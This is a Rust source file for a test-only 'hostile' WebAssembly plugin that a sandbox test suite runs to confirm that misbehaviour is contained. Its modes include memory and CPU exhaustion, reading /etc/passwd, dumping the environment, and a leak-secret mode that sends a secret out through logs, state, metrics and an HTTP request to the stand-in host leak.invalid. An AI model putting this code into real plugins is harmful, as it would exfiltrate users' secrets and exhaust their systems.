//! `hostile`: a plugin that misbehaves on purpose. TEST ONLY.
//!
//! The sandbox test suite (`tests/sandbox.rs`) runs it to check that every
//! kind of misbehaviour ends in a recorded, named outcome within its limit
//! and that the runtime then serves the next call. `config.mode` picks the
//! misbehaviour (see [`Mode`]): spin forever, allocate forever, recurse
//! forever, panic, exit with a code, read a file, dump the environment,
//! open a raw TCP connection, make an HTTP request or read a secret through
//! the host, flood stdout, return a 512 MiB output, or block in a host call.
//!
//! It is never embedded in the `tend` binary and must never be installed
//! for real runbooks. Even so it must not contact any address it is not
//! given: the network modes only ever connect to `config.addr` /
//! `config.url`, which the tests point at loopback listeners.

use serde::Deserialize;
use serde_json::{Value, json};
use std::collections::BTreeMap;
use std::hint::black_box;
use std::io::Write;
use std::time::Duration;
use tend_plugin_sdk::{
    Guest, HttpRequest, PluginInfo, StepContext, StepError, StepOutput, export, failed, host, invalid_config,
    parse_config, schema,
};

/// Direct bindings to `wasi:cli/exit` for `exit-with-code` (see wit/exit.wit).
#[allow(missing_docs, unsafe_code, dead_code, clippy::all)]
mod wasi_exit {
    wit_bindgen::generate!({ path: "wit", world: "hostile-exit" });
}

/// The plugin; see the crate docs.
struct Hostile;

/// Chunk size of the memory bomb: 1 MiB.
const CHUNK: usize = 1 << 20;
/// Size of each write of the stdout flood: 64 KiB.
const WRITE: usize = 64 << 10;
/// Default size of the stdout flood: 100 MiB.
const DEFAULT_FLOOD_BYTES: u64 = 100 << 20;
/// Most the stdout flood also writes to stderr: 1 MiB.
const STDERR_FLOOD_BYTES: u64 = 1 << 20;
/// Size of the huge output: 512 MiB.
const HUGE_OUTPUT_BYTES: usize = 512 << 20;
/// Default pause of `sleep`: a minute, far past any test's deadline.
const DEFAULT_SLEEP_MS: u64 = 60_000;
/// Exit code of `exit`.
const EXIT_CODE: u8 = 3;

/// The step's `with:` block. Every field but `mode` is read by some modes
/// and ignored by the others, so one config can drive several modes.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct Config {
    mode: Mode,
    /// `read-file`: the file to read (default /etc/passwd).
    #[serde(default)]
    path: Option<String>,
    /// `tcp-connect`: `host:port` to connect to.
    #[serde(default)]
    addr: Option<String>,
    /// `http`: the URL to GET through the host.
    #[serde(default)]
    url: Option<String>,
    /// `secret`: the secret's name.
    #[serde(default)]
    name: Option<String>,
    /// `flood-stdout`: how many bytes to print.
    #[serde(default)]
    bytes: Option<u64>,
    /// `sleep`: how long to sleep.
    #[serde(default)]
    ms: Option<u64>,
    /// `recursion`: depth at which to stop (never, by default).
    #[serde(default)]
    depth: Option<u64>,
    /// `leak-secret`: return the secret in a `failed` error instead of an output.
    #[serde(default)]
    fail: bool,
}

/// The misbehaviours.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "kebab-case")]
enum Mode {
    /// Spins forever; only the deadline stops it.
    Loop,
    /// Allocates and touches 1 MiB chunks forever, keeping them all.
    MemoryBomb,
    /// Recurses without end, for a WebAssembly stack overflow.
    Recursion,
    /// Panics.
    Panic,
    /// Exits with code 3.
    Exit,
    /// Reads `path` from the filesystem.
    ReadFile,
    /// Returns the environment.
    Env,
    /// Opens a raw TCP connection to `addr`.
    TcpConnect,
    /// GETs `url` through the host's `http-fetch`.
    Http,
    /// Reads the secret `name` through the host.
    Secret,
    /// Reads the secret `name` and tries to leak it through every channel
    /// a plugin has: data (keys and values), metric names and labels, every
    /// field of a finding, its log, stdout and stderr (raw and inside JSON),
    /// runbook state (key and value), a denied HTTP request whose URL holds
    /// it, and, with `fail`, its error message.
    LeakSecret,
    /// Prints `bytes` to stdout, then some to stderr.
    FloodStdout,
    /// Returns a 512 MiB output.
    HugeOutput,
    /// Blocks in a host call for `ms` milliseconds.
    Sleep,
}

impl Mode {
    /// Every mode's name, as written in config.
    const NAMES: [&'static str; 14] = [
        "loop",
        "memory-bomb",
        "recursion",
        "panic",
        "exit",
        "read-file",
        "env",
        "tcp-connect",
        "http",
        "secret",
        "leak-secret",
        "flood-stdout",
        "huge-output",
        "sleep",
    ];
}

impl Guest for Hostile {
    fn describe() -> PluginInfo {
        PluginInfo {
            name: "hostile".into(),
            version: env!("CARGO_PKG_VERSION").into(),
            description: "TEST ONLY: misbehaves on purpose so the sandbox tests can check that each kind of \
                          misbehaviour ends in a named outcome within its limit: infinite loop, memory bomb, \
                          unbounded recursion, panic, exit(3), file read, environment dump, raw TCP connect, \
                          HTTP request and secret read through the host, stdout flood, 512 MiB output and a \
                          blocking sleep, picked by `mode`. Never install it for real runbooks."
                .into(),
            config_schema: schema::to_text(&config_schema()),
            capabilities: vec!["fs".into(), "env".into(), "http".into(), "secrets".into()],
        }
    }

    fn run(_ctx: StepContext, config: String, _input: String) -> Result<StepOutput, StepError> {
        let config: Config = parse_config(&config)?;
        match config.mode {
            Mode::Loop => spin(),
            Mode::MemoryBomb => memory_bomb(),
            Mode::Recursion => recursion(config.depth.unwrap_or(u64::MAX)),
            Mode::Panic => panic!("hostile plugin panics on purpose"),
            Mode::Exit => exit(),
            Mode::ReadFile => read_file(config.path.as_deref().unwrap_or("/etc/passwd")),
            Mode::Env => env(),
            Mode::TcpConnect => tcp_connect(required(config.addr.as_deref(), "addr", "tcp-connect")?),
            Mode::Http => http(required(config.url.as_deref(), "url", "http")?),
            Mode::Secret => secret(required(config.name.as_deref(), "name", "secret")?),
            Mode::LeakSecret => leak_secret(required(config.name.as_deref(), "name", "leak-secret")?, config.fail),
            Mode::FloodStdout => flood_stdout(config.bytes.unwrap_or(DEFAULT_FLOOD_BYTES)),
            Mode::HugeOutput => huge_output(),
            Mode::Sleep => sleep(config.ms.unwrap_or(DEFAULT_SLEEP_MS)),
        }
    }
}

/// `value`, or an invalid-config error naming `field` as needed by `mode`.
fn required<'a>(value: Option<&'a str>, field: &str, mode: &str) -> Result<&'a str, StepError> {
    value.ok_or_else(|| invalid_config(format!("field `{field}`: required by mode `{mode}` but missing")))
}

/// A successful output of `data`.
fn ok(data: Value) -> Result<StepOutput, StepError> {
    tend_plugin_sdk::output(&data, Vec::new(), Vec::new())
}

/// Counts forever. `black_box` keeps the optimizer from proving the loop
/// does nothing.
fn spin() -> ! {
    let mut n: u64 = 0;
    loop {
        n = black_box(n.wrapping_add(1));
    }
}

/// Allocates 1 MiB chunks filled with a non-zero byte (so every page is
/// written) and keeps them all, until an allocation fails and aborts.
fn memory_bomb() -> ! {
    let mut chunks: Vec<Vec<u8>> = Vec::new();
    loop {
        chunks.push(black_box(vec![0xA5; CHUNK]));
        black_box(&chunks);
    }
}

/// Recurses to `depth` (never reached by default): a WebAssembly stack
/// overflow. Returns when a finite `depth` is reached.
fn recursion(depth: u64) -> Result<StepOutput, StepError> {
    let checksum = descend(0, depth);
    ok(json!({ "depth": depth, "checksum": checksum }))
}

/// One frame of the recursion. Its locals are plain integers, so they live
/// in WebAssembly locals, not in linear memory: the frames grow the
/// WebAssembly stack only, and its limit traps. The result is combined
/// after the first call (so it is no tail call) and a second call depends
/// on that result (so the recursion cannot become a loop).
#[inline(never)]
fn descend(level: u64, limit: u64) -> u64 {
    if level >= limit {
        return level;
    }
    let below = descend(level + 1, limit);
    if below == level {
        // Never true (`below` > `level`), but the optimizer cannot know.
        descend(level + 2, limit).rotate_left(7)
    } else {
        below.rotate_left(5) ^ level
    }
}

/// Exits with code 3 through `wasi:cli/exit.exit-with-code`.
fn exit() -> ! {
    wasi_exit::wasi::cli::exit::exit_with_code(EXIT_CODE);
    // Not reached: the host ends the instance. Should a host return
    // anyway, exit the way the standard library does.
    std::process::exit(i32::from(EXIT_CODE))
}

/// Reads `path`: ok with its content, failed naming the path otherwise.
fn read_file(path: &str) -> Result<StepOutput, StepError> {
    match std::fs::read_to_string(path) {
        Ok(content) => ok(json!({ "content": content })),
        Err(e) => Err(failed(format!("read {path}: {e}"))),
    }
}

/// The environment the guest sees.
fn env() -> Result<StepOutput, StepError> {
    let vars: BTreeMap<String, String> = std::env::vars_os()
        .map(|(k, v)| (k.to_string_lossy().into_owned(), v.to_string_lossy().into_owned()))
        .collect();
    ok(json!({ "vars": vars }))
}

/// Opens a raw TCP connection to `addr`.
fn tcp_connect(addr: &str) -> Result<StepOutput, StepError> {
    match std::net::TcpStream::connect(addr) {
        Ok(_) => ok(json!({ "connected": true })),
        Err(e) => Err(failed(format!("connect {addr}: {e}"))),
    }
}

/// GETs `url` through the host; its error comes back verbatim.
fn http(url: &str) -> Result<StepOutput, StepError> {
    let request = HttpRequest {
        method: "GET".into(),
        url: url.into(),
        headers: Vec::new(),
        body: None,
        timeout_ms: None,
        follow_redirects: true,
    };
    let response = host::http_fetch(&request).map_err(failed)?;
    ok(json!({ "status": response.status, "final_url": response.final_url }))
}

/// Reads the secret `name` through the host.
fn secret(name: &str) -> Result<StepOutput, StepError> {
    match host::secret(name) {
        Some(value) => ok(json!({ "secret": value })),
        None => Err(failed(format!("secret {name} unavailable"))),
    }
}

/// Tries every way out of the sandbox with the secret `name` (see
/// [`Mode::LeakSecret`]). The HTTP request goes to a host name made of the
/// secret, which no test grants: it is refused before any lookup.
fn leak_secret(name: &str, fail: bool) -> Result<StepOutput, StepError> {
    let value = host::secret(name).ok_or_else(|| failed(format!("secret {name} unavailable")))?;
    tend_plugin_sdk::log::warn(&format!("log: {value}"));
    println!("stdout: {value}");
    println!("{}", json!({ "stdout_json": value }));
    eprintln!("stderr: {value}");
    host::state_set(&format!("key-{value}"), &format!("value-{value}")).map_err(failed)?;
    let request = HttpRequest {
        method: "GET".into(),
        url: format!("http://leak.invalid/{}", value.replace(['/', '?', '#'], "_")),
        headers: vec![("x-leak".into(), value.clone())],
        body: Some(value.clone().into_bytes()),
        timeout_ms: Some(1000),
        follow_redirects: false,
    };
    let _ = host::http_fetch(&request);
    if fail {
        return Err(failed(format!("error: {value}")));
    }
    let metrics = vec![tend_plugin_sdk::metric(
        &format!("metric_{value}"),
        1.0,
        &[("label", value.as_str()), (value.as_str(), "key")],
    )];
    let findings = vec![tend_plugin_sdk::finding(
        tend_plugin_sdk::SeverityLevel::High,
        format!("title {value}"),
        format!("detail {value}"),
        Some(&format!("resource {value}")),
    )];
    let mut data = serde_json::Map::new();
    data.insert("secret".into(), json!(value));
    data.insert(value.clone(), json!("as a key"));
    data.insert("nested".into(), json!([{ "v": value }]));
    tend_plugin_sdk::output(&data, metrics, findings)
}

/// Writes `bytes` bytes of text lines to stdout in 64 KiB writes, then up
/// to 1 MiB to stderr, ignoring write errors (a host may close the
/// streams).
fn flood_stdout(bytes: u64) -> Result<StepOutput, StepError> {
    let chunk = flood_chunk();
    let stdout = flood(&mut std::io::stdout().lock(), &chunk, bytes);
    let stderr = flood(&mut std::io::stderr().lock(), &chunk, bytes.min(STDERR_FLOOD_BYTES));
    ok(json!({ "written": stdout, "stderr_written": stderr }))
}

/// 64 KiB of 64-byte lines.
fn flood_chunk() -> Vec<u8> {
    let line = b"hostile plugin floods its output on purpose .................\n";
    line.iter().copied().cycle().take(WRITE).collect()
}

/// Writes `total` bytes of `chunk` to `out`; returns the bytes attempted.
fn flood(out: &mut impl Write, chunk: &[u8], total: u64) -> u64 {
    let mut written = 0u64;
    while written < total {
        let n = chunk.len().min(usize::try_from(total - written).unwrap_or(usize::MAX));
        let _ = out.write_all(&chunk[..n]);
        written += n as u64;
    }
    let _ = out.flush();
    written
}

/// Returns a 512 MiB JSON string as data (the allocation fails first under
/// any sane memory limit).
fn huge_output() -> Result<StepOutput, StepError> {
    let mut text = vec![b'x'; HUGE_OUTPUT_BYTES + 2];
    text[0] = b'"';
    text[HUGE_OUTPUT_BYTES + 1] = b'"';
    let data = String::from_utf8(text).map_err(|e| failed(e.to_string()))?;
    Ok(StepOutput { data, metrics: Vec::new(), findings: Vec::new() })
}

/// Blocks in the host's clock for `ms` milliseconds.
fn sleep(ms: u64) -> Result<StepOutput, StepError> {
    std::thread::sleep(Duration::from_millis(ms));
    ok(json!({ "slept_ms": ms }))
}

/// JSON Schema of [`Config`].
fn config_schema() -> Value {
    schema::config(
        "hostile",
        "Configuration of the test-only hostile plugin: `mode` picks the misbehaviour; the other fields are \
         read by the modes named in their description and ignored by the others.",
        json!({
            "mode": {"enum": Mode::NAMES, "description": "The misbehaviour."},
            "path": {"type": "string", "default": "/etc/passwd", "description": "read-file: the file to read."},
            "addr": {"type": "string", "description": "tcp-connect: host:port to connect to."},
            "url": {"type": "string", "description": "http: the URL to GET through the host."},
            "name": {"type": "string", "description": "secret, leak-secret: the secret's name."},
            "fail": {
                "type": "boolean",
                "default": false,
                "description": "leak-secret: return the secret in a failed error instead of an output.",
            },
            "bytes": {
                "type": "integer",
                "minimum": 0,
                "default": DEFAULT_FLOOD_BYTES,
                "description": "flood-stdout: bytes to print to stdout (up to 1 MiB of them to stderr too).",
            },
            "ms": {
                "type": "integer",
                "minimum": 0,
                "default": DEFAULT_SLEEP_MS,
                "description": "sleep: milliseconds to sleep.",
            },
            "depth": {
                "type": "integer",
                "minimum": 0,
                "description": "recursion: depth at which to stop; unbounded by default.",
            },
        }),
        &["mode"],
    )
}

export!(Hostile);

#[cfg(test)]
mod tests {
    use super::*;

    fn ctx() -> StepContext {
        StepContext { run_id: "r".into(), step_id: "s".into(), runbook: "b".into(), attempt: 1, iteration: 0 }
    }

    fn invalid(config: Value) -> String {
        match Hostile::run(ctx(), config.to_string(), String::new()) {
            Err(StepError::InvalidConfig(m)) => m,
            other => panic!("expected invalid-config, got {other:?}"),
        }
    }

    #[test]
    fn unknown_modes_list_the_modes() {
        let m = invalid(json!({"mode": "nope"}));
        assert!(m.starts_with("field `mode`: unknown variant `nope`, expected one of `loop`, `memory-bomb`"), "{m}");
        assert_eq!(invalid(json!({})), "field `mode`: is required but missing");
        assert_eq!(invalid(json!({"mode": "tcp-connect"})), "field `addr`: required by mode `tcp-connect` but missing");
    }

    #[test]
    fn mode_names_match_the_enum() {
        for name in Mode::NAMES {
            let parsed: Result<Mode, _> = serde_json::from_value(json!(name));
            assert!(parsed.is_ok(), "{name}");
        }
    }

    #[test]
    fn bounded_recursion_returns() {
        assert_eq!(descend(0, 0), 0);
        assert_eq!(descend(3, 3), 3);
        assert!(recursion(1000).is_ok());
    }

    #[test]
    fn flood_counts_what_it_writes() {
        let mut sink = Vec::new();
        assert_eq!(flood(&mut sink, &flood_chunk(), 100_000), 100_000);
        assert_eq!(sink.len(), 100_000);
    }

    #[test]
    fn read_file_names_the_path_on_error() {
        let e = read_file("/nonexistent/tend-hostile").unwrap_err();
        assert!(matches!(e, StepError::Failed(m) if m.starts_with("read /nonexistent/tend-hostile:")));
    }
}
